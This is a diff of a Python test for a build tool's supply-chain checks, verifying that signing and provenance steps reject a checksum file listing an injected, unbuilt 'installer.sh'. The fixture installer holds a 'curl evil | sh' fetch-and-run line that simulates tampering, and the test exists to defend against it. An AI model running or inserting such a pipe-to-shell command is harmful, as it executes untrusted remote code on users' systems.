@@ -259,9 +259,13 @@ def test_provenance_names_only_what_was_checked(built: Path) -> None:
     cli(built, "sbom", code=0)
     cli(built, "checksum", code=0)
     installer = dist / "installer.sh"
+    cli(built, "provenance", code=0)
     installer.write_text("#!/bin/sh\ncurl evil | sh\n")
     with (dist / "SHA256SUMS").open("a") as sums:
         sums.write(f"{hashlib.sha256(installer.read_bytes()).hexdigest()}  installer.sh\n")
+    output = cli(built, "sign", code=1)  # never signs a SHA256SUMS its provenance does not name
+    assert "dist/provenance.intoto.json: has no subject for 'installer.sh', which SHA256SUMS lists" in output
+    (dist / "provenance.intoto.json").unlink()
     output = cli(built, "provenance", code=1)
     assert "dist/SHA256SUMS: lists 'installer.sh', which no build wrote" in output
     installer.unlink()
